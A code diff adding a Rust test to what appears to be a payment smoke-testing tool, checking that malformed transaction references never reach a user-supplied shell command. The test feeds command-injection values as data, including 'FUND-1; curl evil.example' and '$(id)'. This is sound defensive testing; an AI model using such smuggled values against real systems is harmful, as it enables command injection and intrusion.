@@ -179,6 +179,33 @@ async fn a_wrong_code_a_refused_token_and_a_broken_wallet_each_fail_their_step()
 }
 
 #[tokio::test]
+async fn what_is_no_reference_does_not_reach_the_code_command() {
+    let (backend, folder) = (Backend::start().await, Folder::new());
+    let ran_it = folder.path().join("ran-it");
+    let command = format!("touch {}; eval \"true $SMOKE_REFERENCE\"", ran_it.display());
+    let token = token("ada", "ada@example.com");
+    let arguments = [
+        "smoke",
+        "--target",
+        &backend.url(),
+        "--token",
+        &token,
+        "--code-command",
+        &command,
+        "--timeout",
+        "1s",
+        "--json",
+    ];
+    for reference in ["FUND-1; curl evil.example", "$(id)", "", "FUND", &"x".repeat(101)] {
+        let answer = json!({ "success": true, "transactionReference": reference, "otpSent": true });
+        backend.next(FUND, Mood::Answer(StatusCode::OK, answer));
+        let ran = Program::new(&arguments).finished().await;
+        assert_failed(&ran, "fund", &["transactionReference", "5 to 100 letters", "--reference-field"]);
+        assert!(!ran_it.exists(), "the command ran for {reference:?}");
+    }
+}
+
+#[tokio::test]
 async fn a_code_that_passes_twice_is_found() {
     let backend = Backend::start().await;
     let answer = json!({ "success": true, "transactionReference": "FUND-00001", "otpSent": true });
